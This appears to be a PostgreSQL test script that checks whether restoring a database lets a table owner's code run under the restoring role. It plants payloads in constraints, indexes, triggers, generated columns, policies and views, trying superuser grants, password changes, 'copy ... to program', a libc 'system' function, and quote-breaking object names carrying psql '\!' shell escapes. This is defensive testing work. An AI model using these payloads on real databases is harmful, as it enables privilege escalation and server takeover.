-- What somebody who may only make tables tries with whoever restores them. Each attack is made wherever code
-- of a table's owner runs in a restore, and says in the server's log that it was made.
create schema evil;
set search_path = evil;

create table targets (attack text);
insert into targets values
    ('alter role attacker superuser'),
    ('alter role attacker createrole'),
    ('alter role restorer superuser'),
    ('create role pwned superuser login'),
    ('alter role postgres rename to pwned'),
    ('grant postgres to attacker'),
    ('grant pg_execute_server_program to attacker'),
    ('alter role victim password ''pwned'''),
    ('alter role victim set search_path = evil'),
    ('alter role all set search_path = evil'),
    ('alter database victims set search_path = evil'),
    ('alter database victims owner to attacker'),
    ('alter system set archive_command = ''touch FOLDER/archived'''),
    ('copy pg_catalog.pg_class to ''FOLDER/copied'''),
    ('copy pg_catalog.pg_class to program ''touch FOLDER/programmed'''),
    ('create temp table t (l text); copy t from program ''touch FOLDER/programmed'''),
    ('create temp table t (l text); copy t from ''/etc/hostname'''),
    ('select pg_catalog.lo_export(pg_catalog.lo_from_bytea(0, ''x''), ''FOLDER/exported'')'),
    ('select pg_catalog.pg_read_file(''/etc/hostname'')'),
    ('select pg_catalog.pg_file_write(''FOLDER/written'', ''x'', false)'),
    ('load ''FOLDER/evil'''),
    ('create language plpython3u'),
    ('create extension file_fdw'),
    ('create extension adminpack'),
    ('create function pwn() returns int language c as ''libc'', ''system'''),
    ('create event trigger pwned on ddl_command_end execute function evil.on_event()'),
    ('create tablespace pwned location ''FOLDER'''),
    ('create subscription pwned connection ''dbname=postgres'' publication p'),
    ('update pg_catalog.pg_authid set rolsuper = true'),
    ('insert into pg_catalog.pg_db_role_setting values (0, 0, ''{search_path=evil}'')'),
    -- The last ones: whoever they make of us makes the next attack.
    ('set session authorization postgres'),
    ('set role victim');

create function on_event() returns event_trigger language plpgsql as 'begin perform evil.attack(''event''); end';

create function attack(place text) returns boolean language plpgsql as $attack$
declare
    attempt text;
begin
    raise log 'attacked in: %', place;
    for attempt in select attack from evil.targets loop
        begin
            execute attempt;
            raise log 'attack went through: %', attempt;
        exception when others then
            null;
        end;
    end loop;
    return true;
exception when undefined_table then
    return true;
end $attack$;

create function attack_as_owner(place text) returns boolean security definer language sql
    return evil.attack(place);
-- It says that it changes nothing, and calls what does.
create function attack_unnoticed(place text) returns boolean immutable language plpgsql as
    'begin return evil.attack(place); end';

create table checked (n int check (evil.attack('check')));
create table definer (n int check (evil.attack_as_owner('security definer')));
create table derived (n int, made boolean generated always as (evil.attack_unnoticed('generated column')) stored);
create domain suspicious as int check (evil.attack('domain'));
create table typed (n suspicious);
create table indexed (n int);
create index on indexed ((evil.attack_unnoticed('index ' || n::text)));
create table triggered (n int);
create function on_row() returns trigger language plpgsql as 'begin perform evil.attack(''trigger''); return new; end';
create trigger always before insert on triggered for each row execute function on_row();
alter table triggered enable always trigger always;
create materialized view filled as select evil.attack('materialized view') as made;
create table ruled (n int);
create policy p on ruled using (evil.attack('policy'));
alter table ruled enable row level security;

insert into checked values (1);
insert into definer values (1);
insert into derived values (1);
insert into typed values (1);
insert into indexed values (1);
insert into triggered values (1);
insert into ruled values (1);

-- Names that end a comment, a quoted string or a statement where they are not quoted well.
create schema "x
; create role pwned superuser; --";
create table "x
; create role pwned superuser; --"."
\! touch FOLDER/shell
; create role pwned superuser; --" ("a
; create role pwned superuser; --" int constraint "c
; create role pwned superuser; --" check (true));
comment on schema "x
; create role pwned superuser; --" is E'\n; create role pwned superuser; --\n\\! touch FOLDER/shell\n';
insert into "x
; create role pwned superuser; --"."
\! touch FOLDER/shell
; create role pwned superuser; --" values (1);

alter default privileges for role attacker grant all on tables to public;
alter default privileges for role attacker grant all on functions to victim;
